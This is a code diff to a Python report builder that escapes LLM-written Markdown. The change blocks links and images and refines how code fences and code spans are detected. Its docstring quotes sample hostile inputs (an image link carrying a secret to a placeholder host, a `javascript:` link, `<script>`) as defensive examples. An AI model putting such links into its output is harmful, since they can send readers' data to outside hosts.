@@ -1,10 +1,14 @@
 """The Markdown report: front matter, contents, one section per agent and synthesis level, costs.
 
 The report is built as a list of :class:`Section` objects so the PDF renderer lays out
-exactly the same content.  LLM output is Markdown and is kept as Markdown, with two
+exactly the same content.  LLM output is Markdown and is kept as Markdown, with three
 guards at the boundary: its headings are demoted below the section that holds it (so an
-agent cannot forge a top-level section), and anything shaped like an HTML tag outside
-code is escaped (so a Markdown viewer shows ``<script>`` instead of running it).
+agent cannot forge a top-level section), anything shaped like an HTML tag outside code
+is escaped (so a Markdown viewer shows ``<script>`` instead of running it), and no link
+or image can form: ``](`` and ``]:`` outside code get an entity for their second
+character, so ``![x](https://host/?secret)`` and ``[x](javascript:...)`` show as the text
+they are and a viewer neither fetches nor links their target (an image a viewer loads is
+a channel out of the reader's machine).  The rest of the syntax is kept.
 """
 
 from __future__ import annotations
@@ -34,31 +38,42 @@ class Section:
     kind: str = "text"
 
 
-_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
+# A fence (a backtick fence's info string has no backtick, else it is not a fence).
+_FENCE = re.compile(r"^( {0,3})(`{3,}(?=[^`]*$)|~{3,})")
 _HEADING = re.compile(r"^( {0,3})(#{1,6})(?=\s|$)")
 _TAG_LIKE = re.compile(r"<(?=[A-Za-z/!?])")
 _ENTITY = re.compile(r"&(?=#[0-9]+;|#[xX][0-9A-Fa-f]+;|[A-Za-z][A-Za-z0-9]*;)")
-_CODE_SPAN = re.compile(r"(`+)(?:.|\n)*?(?<!`)\1(?!`)")
+# A code span; a backquote after a backslash opens none (escaped: a viewer shows it as is).
+_CODE_SPAN = re.compile(r"(?<![\\`])(`+)(?:.|\n)*?(?<!`)\1(?!`)")
+_LINK_TARGET = re.compile(r"\]([(:])")  # an inline link or image, or a reference definition
+_ENTITY_FOR = {"(": "&#40;", ":": "&#58;"}
 
 
 def escape_untrusted_markdown(text: str, *, min_heading: int = 4) -> str:
     """Make LLM-written Markdown safe to embed in the report.
 
-    Headings are pushed down to at least ``min_heading`` (``####``); ``<`` that starts
-    something tag-like outside fenced code and code spans becomes ``&lt;``.  Code is left
-    untouched, since it is shown literally anyway.
+    Headings are pushed down to at least ``min_heading`` (``####``); outside fenced code
+    and code spans, ``<`` that starts something tag-like becomes ``&lt;`` and links and
+    images are shown as text (see the module docs).  Code is left untouched, since it is
+    shown literally anyway.  Code is never assumed where a viewer may not see it: an
+    indented fence (in a list item, say) ends, for this purpose, at the first line indented
+    less than it, where the item and so the viewer's code block end.
     """
     out: list[str] = []
     fence: str | None = None
+    fence_indent = 0
     for line in text.splitlines():
         match = _FENCE.match(line)
         if fence is not None:
-            out.append(line)
-            if match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence):
-                fence = None
-            continue
+            if line.strip() and len(line) - len(line.lstrip(" ")) < fence_indent:
+                fence = None  # the list item holding the fence ended here: so did the code
+            else:
+                out.append(line)
+                if match and match.group(2)[0] == fence[0] and len(match.group(2)) >= len(fence):
+                    fence = None
+                continue
         if match:
-            fence = match.group(1)
+            fence, fence_indent = match.group(2), len(match.group(1))
             out.append(line)
             continue
         heading = _HEADING.match(line)
@@ -70,12 +85,14 @@ def escape_untrusted_markdown(text: str, *, min_heading: int = 4) -> str:
 
 
 def _escape_markup(text: str) -> str:
-    """``&lt;`` for tag-like ``<`` and ``&amp;`` for ``&`` that starts an entity; the rest is kept."""
-    return _TAG_LIKE.sub("&lt;", _ENTITY.sub("&amp;", text))
+    """``&lt;`` for tag-like ``<``, ``&amp;`` for ``&`` that starts an entity, and an entity
+    for the character after ``]`` that would make a link or image; the rest is kept."""
+    text = _TAG_LIKE.sub("&lt;", _ENTITY.sub("&amp;", text))
+    return _LINK_TARGET.sub(lambda m: "]" + _ENTITY_FOR[m.group(1)], text)
 
 
 def _escape_outside_code_spans(line: str) -> str:
-    if "<" not in line and "&" not in line:
+    if "<" not in line and "&" not in line and "]" not in line:
         return line
     parts: list[str] = []
     last = 0
